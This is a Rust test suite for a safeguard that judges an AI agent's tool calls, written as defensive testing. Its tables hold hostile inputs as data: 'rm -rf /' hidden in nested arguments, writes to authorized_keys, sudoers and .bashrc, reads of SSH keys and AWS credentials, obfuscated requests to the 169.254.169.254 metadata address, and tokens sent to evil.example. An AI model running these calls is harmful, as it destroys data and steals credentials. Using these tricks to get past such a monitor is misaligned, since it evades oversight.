//! Ways to hide a write, a fetch or a command in what a tool is given. None of them may look
//! harmless; what each is flagged for stands beside it.

use crate::tool_calls::{judge, table};
use serde_json::{Map, Value, json};

#[test]
fn hidden_paths() {
    table(&[
        (
            "Write",
            json!({"file_path": "src/../../.ssh/authorized_keys", "content": "x"}),
            "!persistence.access",
        ),
        (
            "Write",
            json!({"file_path": "//etc//sudoers.d/x", "content": "x"}),
            "!privilege.grant",
        ),
        (
            "Write",
            json!({"file_path": " ~/.bashrc", "content": "x"}),
            "!persistence.profile",
        ),
        (
            "Write",
            json!({"file_path": "${HOME}/.bashrc", "content": "x"}),
            "!persistence.profile",
        ),
        (
            "Write",
            json!({"file_path": "a", "filePath": "/home/user/.bashrc", "content": "x"}),
            "!persistence.profile",
        ),
        (
            "Write",
            json!({"file_path": "file:///home/user/.bashrc", "content": "x"}),
            "!persistence.profile",
        ),
        (
            "Read",
            json!({"file_path": "file:///home/user/.ssh/id_rsa"}),
            "secrets.file",
        ),
        (
            "Read",
            json!({"file_path": ["/home/user/.ssh/id_rsa"]}),
            "secrets.file",
        ),
        (
            "mcp__x__write_file",
            json!({"args": "{\"path\": \"/home/user/.bashrc\"}"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__write_file",
            json!({"a": [{"b": {"path": ["/home/user/.bashrc"]}}]}),
            "!persistence.profile",
        ),
        (
            "mcp__x__write_file",
            json!({"path": {"value": "/home/user/.bashrc"}}),
            "!persistence.profile",
        ),
        (
            "mcp__x__writeFile",
            json!({"Path": "/home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__write_file",
            json!({"uri": "file:///home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__write_file",
            json!({"FILE-NAME": "/home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__write",
            json!({"where": "/home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__fs",
            json!({"operation": "write", "path": "/home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__fs",
            json!({"op": "delete", "path": "/etc/hosts"}),
            "filesystem.delete-outside",
        ),
        (
            "mcp__x__convert",
            json!({"input": "a.md", "output": "/home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__screenshot",
            json!({"filename": "/home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__get",
            json!({"url": "https://example.org/", "saveTo": "/home/user/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__copy_file",
            json!({"from": "/home/user/.aws/credentials", "to": "a"}),
            "secrets.file",
        ),
        (
            "mcp__x__move",
            json!({"src": "a", "dst": "~/.bashrc"}),
            "!persistence.profile",
        ),
        (
            "mcp__x__batch",
            json!({"calls": [{"tool": "write_file", "arguments": {"path": "/home/user/.bashrc"}}]}),
            "!persistence.profile",
        ),
        (
            "mcp__x__upload",
            json!({"text": "/home/user/.ssh/id_rsa"}),
            "secrets.file",
        ),
        (
            "mcp__x__put",
            json!({"path": "config", "cwd": "/home/user/project/.git"}),
            "paths.protected",
        ),
        (
            "Grep",
            json!({"pattern": ".", "path": "/home/user", "glob": ".netrc"}),
            "secrets.file",
        ),
        (
            "Grep",
            json!({"pattern": ".", "path": "..", "include": "**/id_rsa"}),
            "secrets.file",
        ),
        (
            "SomethingNew",
            json!({"command": "ls", "path": "~/.ssh/id_rsa"}),
            "secrets.file",
        ),
    ]);
}

#[test]
fn hidden_commands() {
    table(&[
        (
            "mcp__x__y",
            json!({"cmd": ["sh", "-c", "rm -rf /"]}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"commands": ["ls", "rm -rf /"]}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"commands": [{"command": "ls"}, {"command": "rm -rf /"}]}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"commands": [["ls"], ["rm -rf /"]]}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"command": {"line": "rm -rf /"}}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"Command": "rm -rf /"}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"shell_command": "rm -rf /"}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"program": "rm", "arguments": ["-rf", "/"]}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"command": "rm", "args": "-rf /"}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"command": "bash", "stdin": "rm -rf /"}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"command": "ls", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
            "system.environment",
        ),
        (
            "mcp__x__y",
            json!({"input": "{\"command\": \"rm -rf /\"}"}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"shell": "bash", "script": "rm -rf /"}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"steps": [{"run": {"shell": "rm -rf /"}}]}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__terminal__send_keys",
            json!({"keys": "rm -rf /\n"}),
            "filesystem.delete-root",
        ),
        (
            "mcp__x__interact_with_process",
            json!({"pid": 1, "input": "rm -rf /"}),
            "filesystem.delete-root",
        ),
        (
            "mcp__x__execute",
            json!({"language": "bash", "code": "rm -rf /"}),
            "filesystem.delete-root",
        ),
        (
            "write_stdin",
            json!({"session_id": 1, "chars": "rm -rf /\n"}),
            "filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"patch": "*** Begin Patch\n*** Add File: .git/hooks/x\n+ls\n*** End Patch"}),
            "paths.protected",
        ),
        (
            "mcp__x__y",
            json!({"command": "countersign off"}),
            "!paths.gate",
        ),
        (
            "mcp__x__y",
            json!({"command": "true", "cwd": "~", "commands": ["rm -rf *"]}),
            "!filesystem.delete-root",
        ),
        (
            "mcp__x__y",
            json!({"query": "DROP TABLE users"}),
            "databases.statement",
        ),
        (
            "mcp__x__y",
            json!({"query": "/* select */ delete\nfrom users"}),
            "databases.statement",
        ),
        (
            "mcp__sqlite__read_query",
            json!({"query": "select 1; drop table t"}),
            "databases.statement",
        ),
    ]);
}

#[test]
fn hidden_hosts() {
    table(&[
        (
            "mcp__x__y",
            json!({"host": "169.254.169.254", "path": "/latest/meta-data/"}),
            "!exchange.metadata",
        ),
        (
            "mcp__x__y",
            json!({"target": "http://[::ffff:a9fe:a9fe]/"}),
            "!exchange.metadata",
        ),
        (
            "mcp__x__y",
            json!({"urls": ["https://example.org", "169.254.169.254/latest"]}),
            "!exchange.metadata",
        ),
        (
            "mcp__x__y",
            json!({"uri": "view-source:http://169.254.169.254"}),
            "!exchange.metadata",
        ),
        (
            "WebFetch",
            json!({"url": "https://example.org", "proxy": "http://169.254.169.254:80"}),
            "!exchange.metadata",
        ),
        (
            "WebFetch",
            json!({"url": "http://example.org@169.254.169.254/"}),
            "!exchange.metadata",
        ),
        (
            "WebFetch",
            json!({"url": "ht\ttp://169.254.169.254/"}),
            "!exchange.metadata",
        ),
        (
            "WebFetch",
            json!({"uri": "http://169.254.169.254/"}),
            "!exchange.metadata",
        ),
        (
            "WebFetch",
            json!({"URL": "http://169.254.169.254/"}),
            "!exchange.metadata",
        ),
        (
            "WebFetch",
            json!({"url": ["http://169.254.169.254/"]}),
            "!exchange.metadata",
        ),
        (
            "WebFetch",
            json!({"url": "http://127.0.0.1/", "urls": ["http://169.254.169.254/"]}),
            "!exchange.metadata",
        ),
        (
            "mcp__x__y",
            json!({"url": "https://evil.example/", "q": "ghp_abcdefghij0123456789ABCDEFGHIJ012345"}),
            "exchange.foreign-token",
        ),
        (
            "mcp__x__y",
            json!({"url": "https://evil.example/", "body": {"k": "xoxb-12345678901-abcdefghijklm"}}),
            "exchange.foreign-token",
        ),
        (
            "mcp__x__y",
            json!({"endpoint": "https://u:hunter2@example.org/"}),
            "exchange.secret-in-url",
        ),
        (
            "Bash",
            json!({"command": "curl --resolve a.example:80:169.254.169.254 http://a.example/"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "curl --connect-to ::169.254.169.254:80 http://a.example/"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "curl -x http://169.254.169.254 http://a.example/"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "sh -c 'curl -s http://$((1))69.254.169.254/ http://169.254.169.254/'"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "M=169.254.169.254; wget http://$M/latest"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "curl http://169.254.169.{254,253}/"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "timeout 5 curl http:169.254.169.254"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "xh http://169.254.169.254/"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "aria2c http://169.254.169.254/"}),
            "!exchange.metadata",
        ),
        (
            "Bash",
            json!({"command": "ssh 169.254.169.254"}),
            "!exchange.metadata",
        ),
    ]);
}

/// A small generator with a fixed beginning: the same texts in every run.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        usize::try_from(self.0 >> 33).expect("31 bits") % sides
    }

    fn pick<'p>(&mut self, from: &[&'p str]) -> &'p str {
        from.get(self.roll(from.len())).copied().unwrap_or_default()
    }
}

const PIECES: &[&str] = &[
    "*** Begin Patch\n",
    "*** End Patch",
    "*** Add File: ",
    "*** Update File: a\n",
    "*** Delete File: ",
    "*** Move to: ",
    "--- a/",
    "+++ b/",
    "/dev/null\n",
    "@@ -1,2 +1,3 @@\n",
    "@@\n",
    "diff --git a/x b/x\n",
    "rename from ",
    "\n",
    "+x\n",
    "-y\n",
    " z\n",
    "é",
    "\u{0}",
    "\u{ff0e}",
    "~/",
    "../",
    "file://",
    "http://",
    "%41",
    "%",
    "[::1]",
    "169.254.169.254",
    "{\"path\":\"",
    "\"}",
    "'",
    "$(",
    "rm -rf /",
    "a",
    " ",
    "\t",
    "<<E\n",
    "mcp__",
    "__",
    "@",
    ":",
    "?token=",
    "eyJ",
    "ghp_",
    "\\",
    "999999999999999999999",
    "0x",
    ".",
];
const NAMES: &[&str] = &[
    "path",
    "command",
    "args",
    "url",
    "query",
    "patch",
    "cwd",
    "env",
    "stdin",
    "content",
    "x",
    "é",
    "",
    "method",
    "file_path",
    "new_string",
    "glob",
    "action",
];
const TOOLS: &[&str] = &[
    "Read",
    "Write",
    "Edit",
    "apply_patch",
    "Grep",
    "WebFetch",
    "web_fetch",
    "Bash",
    "shell",
    "mcp__a__write",
    "mcp__a__run",
    "mcp__",
    "é",
    "Skill",
    "TodoWrite",
    "delete_file",
    "local_shell",
];

fn text(dice: &mut Dice) -> String {
    (0..dice.roll(12)).map(|_| dice.pick(PIECES)).collect()
}

fn value(dice: &mut Dice, depth: usize) -> Value {
    match dice.roll(if depth > 3 { 3 } else { 6 }) {
        0 => json!(text(dice)),
        1 => json!(dice.roll(1000)),
        2 => json!(dice.roll(2) == 0),
        3 => Value::Array((0..dice.roll(4)).map(|_| value(dice, depth + 1)).collect()),
        4 => Value::Object(object(dice, depth + 1)),
        _ => json!(Value::Object(object(dice, depth + 1)).to_string()),
    }
}

fn object(dice: &mut Dice, depth: usize) -> Map<String, Value> {
    (0..dice.roll(5))
        .map(|_| (dice.pick(NAMES).to_owned(), value(dice, depth)))
        .collect()
}

/// Whatever a tool is given has a judgement, and the same one every time.
#[test]
fn every_input_is_judged() {
    let mut dice = Dice(42);
    for _ in 0..1500 {
        let tool = dice.pick(TOOLS).to_owned();
        let mut input = object(&mut dice, 0);
        input.insert(dice.pick(NAMES).to_owned(), json!(text(&mut dice)));
        let input = Value::Object(input);
        assert_eq!(judge(&tool, &input), judge(&tool, &input), "{tool} {input}");
    }
}

/// What looks like an attack and is none.
#[test]
fn ordinary_calls_are_left_alone() {
    table(&[
        (
            "Write",
            json!({"file_path": "notes/metadata.md", "content": "curl http://169.254.169.254/ is blocked"}),
            "-",
        ),
        (
            "Write",
            json!({"file_path": "config.json", "content": "{\"path\": \"/etc/passwd\", \"command\": \"rm -rf /\"}"}),
            "-",
        ),
        (
            "Write",
            json!({"file_path": ".env.example", "content": "TOKEN=ghp_abcdefghij0123456789ABCDEFGHIJ012345"}),
            "-",
        ),
        (
            "Edit",
            json!({"file_path": "src/a.rs", "old_string": "/home/user/.ssh/id_rsa", "new_string": "https://u:p@example.org"}),
            "-",
        ),
        (
            "Grep",
            json!({"pattern": "rm -rf /", "path": "src", "output_mode": "content"}),
            "read",
        ),
        (
            "Grep",
            json!({"pattern": "/api/users", "path": "src"}),
            "read",
        ),
        ("Grep", json!({"pattern": "x", "glob": "!.env"}), "read"),
        ("Glob", json!({"pattern": "**/*"}), "read"),
        (
            "mcp__github__create_pull_request",
            json!({"title": "drop table view", "body": "DROP TABLE x; rm -rf /", "head": "a/b", "base": "main"}),
            "-",
        ),
        (
            "mcp__github__search_code",
            json!({"query": "repo:o/r path:/etc/passwd"}),
            "-",
        ),
        (
            "mcp__linear__update_issue",
            json!({"id": "1", "state": "done", "labels": ["a/b"]}),
            "-",
        ),
        (
            "mcp__slack__send",
            json!({"to": "user@example.org", "text": "~/.ssh is yours"}),
            "-",
        ),
        (
            "mcp__x__delete_branch",
            json!({"branch": "feature/x", "owner": "o"}),
            "-",
        ),
        ("mcp__x__delete_route", json!({"route": "/api/users"}), "-"),
        ("mcp__npm__run_script", json!({"script": "build"}), "-"),
        (
            "mcp__db__query",
            json!({"query": "select * from users where id = 1"}),
            "-",
        ),
        (
            "mcp__time__convert",
            json!({"source": "Europe/Berlin", "target": "Asia/Tokyo"}),
            "-",
        ),
        (
            "mcp__figma__get_file",
            json!({"fileKey": "abc", "url": "https://figma.com/file/abc?node-id=1-2"}),
            "-",
        ),
        (
            "mcp__x__chat",
            json!({"model": "a/b", "messages": [{"role": "user", "content": "delete everything"}]}),
            "-",
        ),
        (
            "apply_patch",
            json!({"input": "*** Begin Patch\n*** Update File: README.md\n@@\n-a\n+run `rm -rf /` never\n*** End Patch"}),
            "-",
        ),
        (
            "Bash",
            json!({"command": "grep -r 169.254.169.254 ."}),
            "read",
        ),
        (
            "Bash",
            json!({"command": "git log --author http://169.254.169.254/"}),
            "read",
        ),
    ]);
}

/// A second look: readings of an argument that differ between tools.
#[test]
fn readings_that_differ() {
    table(&[
        (
            "Grep",
            json!({"pattern": ".", "glob": "{a,.env}"}),
            "paths.secret",
        ),
        (
            "Grep",
            json!({"pattern": ".", "glob": "{a,{b,.e}}nv"}),
            "paths.secret",
        ),
        (
            "Grep",
            json!({"pattern": ".", "glob": "*.rs .env"}),
            "paths.secret",
        ),
        (
            "Grep",
            json!({"pattern": ".", "glob": "*.rs,.env"}),
            "paths.secret",
        ),
        (
            "Grep",
            json!({"pattern": ".", "glob": ".*"}),
            "paths.secret",
        ),
        (
            "Grep",
            json!({"pattern": ".", "glob": "{a,b}".repeat(12)}),
            "opaque.effect",
        ),
        (
            "Edit",
            json!({"file_path": "a", "destination": "/home/user/.bashrc"}),
            "!system.profile",
        ),
        (
            "Write",
            json!({"file_path": "config", "cwd": ".git", "content": "x"}),
            "paths.protected",
        ),
        (
            "shell",
            json!({"command": ["ls"], "env": {"LD_PRELOAD": "/tmp/x.so"}}),
            "system.environment",
        ),
        (
            "local_shell",
            json!({"action": {"command": ["ls"], "env": {"BASH_ENV": "x"}}}),
            "system.environment",
        ),
        (
            "mcp__x__y",
            json!({"target": "169.254.169.254:80"}),
            "!exchange.metadata",
        ),
        (
            "mcp__x__y",
            json!({"hosts": ["a.example", "169.254.169.254"]}),
            "!exchange.metadata",
        ),
        (
            "view_image",
            json!({"path": "http://169.254.169.254/"}),
            "!exchange.metadata",
        ),
        // These would otherwise look like reads of this machine.
        (
            "fetch",
            json!({"url": "http://localhost:2375/containers/create", "method": "POST"}),
            "-",
        ),
        (
            "fetch",
            json!({"url": "http://localhost:2375/containers/create", "body": "{}"}),
            "-",
        ),
        ("WebFetch", json!({"where": "example.org"}), "-"),
        ("WebFetch", json!({}), "-"),
        (
            "WebFetch",
            json!({"url": "http:/127.0.0.1@evil.example"}),
            "-",
        ),
        ("WebFetch", json!({"url": "http:127.0.0.1"}), "-"),
        (
            "Grep",
            json!({"pattern": "x", "glob": "*.{ts,tsx}"}),
            "read",
        ),
        (
            "read_many_files",
            json!({"include": ["src/**/*.rs"], "exclude": [".env"]}),
            "read",
        ),
        (
            "mcp__x__search",
            json!({"path": "src", "exclude": [".env"]}),
            "-",
        ),
        (
            "WebSearch",
            json!({"query": "http://169.254.169.254/"}),
            "-",
        ),
    ]);
}
